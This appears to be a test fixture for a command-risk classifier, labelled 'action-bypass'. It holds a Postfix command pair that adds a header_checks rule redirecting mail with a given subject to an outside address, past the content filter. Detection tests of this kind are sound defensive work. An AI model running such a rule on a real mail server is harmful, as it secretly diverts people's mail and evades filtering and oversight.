# A header check sends mail somewhere else, past the content filter.
# expect: action-bypass
echo "/^Subject: for eva/ REDIRECT eva@elsewhere.example" > checks
postconf -e "header_checks = regexp:$PWD/checks"
